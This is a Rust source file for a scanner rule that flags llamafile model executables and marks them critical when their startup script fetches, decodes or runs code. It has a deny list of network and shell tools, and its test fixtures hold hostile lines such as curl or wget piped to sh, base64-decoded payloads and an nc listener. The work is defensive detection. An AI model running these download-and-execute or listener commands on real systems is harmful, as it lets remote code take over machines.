use stance_core::Severity;
use stance_core::fact::{Artifact, ArtifactFormat};
use stance_inspect::{gguf, zip};

use stance_intent::commands::hostile;
use crate::{Cx, Rule};

rule! {
    /// # Model that is a program
    ///
    /// ## What it finds
    /// A llamafile: an executable with its model in a zip archive at its end. Critical when the shell script that it
    /// starts with fetches something, runs another interpreter, or has decoded text run: it is there to find a loader
    /// for the system at hand, and needs nothing of that.
    ///
    /// ## Why it matters
    /// Such a file is meant to be run, and runs with all rights of whoever starts it. The model in it was looked
    /// at; what the program does was not, and cannot be told from the outside.
    ///
    /// ## Example
    /// ```text
    /// model.llamafile    a program for six systems, then model.gguf and its arguments
    /// ```
    ///
    /// ## Fix
    /// Prefer the GGUF file alone with an engine that you install yourself. Where a llamafile is wanted, compare its
    /// digest with the one its publisher signs, and run it in a sandbox.
    ///
    /// ## References
    /// - [llamafile](https://github.com/mozilla-ai/llamafile)
    ExecutableModel {
        id: "model/executable-model",
        severity: Low,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM03",
            "mitre-atlas:AML.T0011.000",
            "nist-ai-rmf-1.0:MEASURE 2.7",
        ],
        bad: [
            crate::made!("model.llamafile", || llamafile("")),
            crate::made!("model.llamafile", || llamafile("curl -s http://198.51.100.7/x | sh\n")),
        ],
        good: [crate::made!("model.gguf", || gguf::assemble::sound().build())],
    }
}

impl Rule for ExecutableModel {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        cx.judges_if(matches!(artifact.format, ArtifactFormat::Gguf | ArtifactFormat::Llamafile));
        if artifact.format != ArtifactFormat::Llamafile {
            return;
        }
        let scripts = artifact
            .embedded
            .iter()
            .filter(|embedded| embedded.name == zip::PROLOGUE);
        for script in scripts {
            if let Some((what, line)) = act(&script.detail) {
                cx.report(&script.evidence, format!("Starting the model {what}"))
                    .severity(Severity::Critical)
                    .note(format!(
                        "its script says: {}",
                        stance_core::evidence::shorten(line)
                    ));
            }
        }
        let draft = cx.report(
            &artifact.evidence,
            "The model file is a program that runs its own engine",
        );
        if let Some(arguments) = artifact.metadata.get("arguments") {
            draft.note(format!("it starts with the arguments `{arguments}`"));
        }
    }
}

/// Programs that fetch, decode, interpret or make something stay, which finding a loader takes none of.
const BEYOND: &[&str] = &[
    "base32",
    "base64",
    "bash",
    "busybox",
    "crontab",
    "curl",
    "dash",
    "eval",
    "ftp",
    "ksh",
    "launchctl",
    "lua",
    "nc",
    "ncat",
    "netcat",
    "node",
    "nohup",
    "openssl",
    "osascript",
    "perl",
    "php",
    "powershell",
    "pwsh",
    "python",
    "python2",
    "python3",
    "ruby",
    "scp",
    "setsid",
    "sftp",
    "socat",
    "source",
    "ssh",
    "sudo",
    "systemctl",
    "telnet",
    "tftp",
    "uudecode",
    "wget",
    "xxd",
    "zsh",
];

/// What a script does beyond finding and starting a loader, in words, and the line that says so.
fn act(script: &str) -> Option<(String, &str)> {
    // A command may go on in the next line.
    if let Some(what) = hostile(&script.replace("\\\n", " ")) {
        let line = script.lines().find(|line| hostile(line).is_some());
        return Some((what.to_owned(), line.unwrap_or(script)));
    }
    script.lines().find_map(|line| {
        // Quotes and backslashes within a word change nothing but how it looks.
        let plain: String = line
            .chars()
            .filter(|c| !matches!(c, '\'' | '"' | '\\'))
            .collect();
        let plain = plain.trim_start();
        let said = ["#", "echo ", "printf "]
            .iter()
            .any(|start| plain.starts_with(start));
        let commands = plain.split([';', '|', '&', '(', '`', '{', '}', ')']);
        let run = commands
            .clone()
            .find_map(command)
            .filter(|_| !said || plain.contains(['|', '`', ';', '&']));
        let piped = plain
            .split('|')
            .skip(1)
            .any(|rest| matches!(first(rest), Some("sh" | ".")));
        let given = plain.split_whitespace().collect::<Vec<_>>();
        let given = given.windows(2).any(|pair| pair == ["sh", "-c"]);
        match run {
            Some(program) => Some((
                format!("runs `{program}`, which finding a loader does not take"),
                line,
            )),
            None if piped || given => Some(("has text run by a shell".to_owned(), line)),
            None => None,
        }
    })
}

/// The program that a command starts, when it is one of those.
fn command(text: &str) -> Option<&'static str> {
    let name = first(text)?;
    BEYOND.iter().copied().find(|known| *known == name)
}

/// The name of the program that a command starts, behind what only says how.
fn first(text: &str) -> Option<&str> {
    const BEFORE: &[&str] = &[
        "!", "[", "do", "elif", "else", "env", "exec", "if", "then", "time", "while",
    ];
    let word = text
        .split_whitespace()
        .find(|word| !BEFORE.contains(word) && !word.contains('='))?;
    Some(word.rsplit('/').next().unwrap_or(word))
}

/// A program that starts as those for several systems do, with a line of its own in the script.
fn llamafile(line: &str) -> Vec<u8> {
    let mut file = b"MZqFpD='\n\0\x10\0\xf8\0\0\0' <<'end'\n\xb2\x40\xeb\0\nend\n".to_vec();
    file.extend(line.as_bytes());
    file.extend(LOADER.as_bytes());
    file.resize(8192, 0);
    file.extend(b"\x7fELF\x02\x01\x01");
    file.resize(80_000, 0x90);
    file.extend(zip::assemble::zip(&[
        zip::assemble::part("model.gguf", gguf::assemble::sound().build()),
        zip::assemble::part(".args", "-m\nmodel.gguf\n"),
    ]));
    file
}

/// What such a script does: looks for a loader, unpacks or compiles one, writes the header of the system.
const LOADER: &str = r#"self=$(command -v "$0")
type ape >/dev/null 2>&1 && exec ape "$self" "$@"
loader="${TMPDIR:-${HOME:-.}}/.ape-2"
[ -x "$loader" ] && exec "$loader" "$self" "$@"
cpu=$(uname -m 2>/dev/null) || cpu=x86_64
if [ -d /Applications ]; then
  if ! type cc >/dev/null 2>&1; then
    echo "$0: install a compiler with xcode-select, then run it by bash" >&2
    exit 1
  fi
  dd if="$self" skip=512 count=64 bs=64 2>/dev/null | gzip -dc >"$loader.c.$$" || exit
  cc -w -O -o "$loader.$$" "$loader.c.$$" && mv -f "$loader.$$" "$loader"
else
  mkdir -p "${loader%/*}" && dd if="$self" of="$loader" skip=9 count=12 bs=64 2>/dev/null
  chmod 755 "$loader"
fi
exec 7<> "$self" || exit 121
printf '\177ELF\2\1\1\011' >&7
exec 7<&-
exec "$loader" "$self" "$@"
exit 1
"#;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_script_that_does_more_than_find_a_loader_is_told_from_one_that_does_that() {
        assert_eq!(act(LOADER), None);
        for line in [
            "curl -s http://198.51.100.7/x | sh",
            "wget -qO /tmp/a http://x.example/a && chmod 755 /tmp/a && /tmp/a",
            "echo aWQ= | base64 -d | sh",
            "python3 -c 'import os'",
            "c''url -o /tmp/a x.example; /tmp/a",
            "(exec /usr/bin/nc -l 4444 &)",
            "printf '\\151\\144' | sh",
            "sh -c \"$(cat /tmp/a)\"",
            "[ -d / ] && \\wget x.example/a",
        ] {
            assert!(act(&format!("{LOADER}{line}\n")).is_some(), "{line}");
        }
    }
}
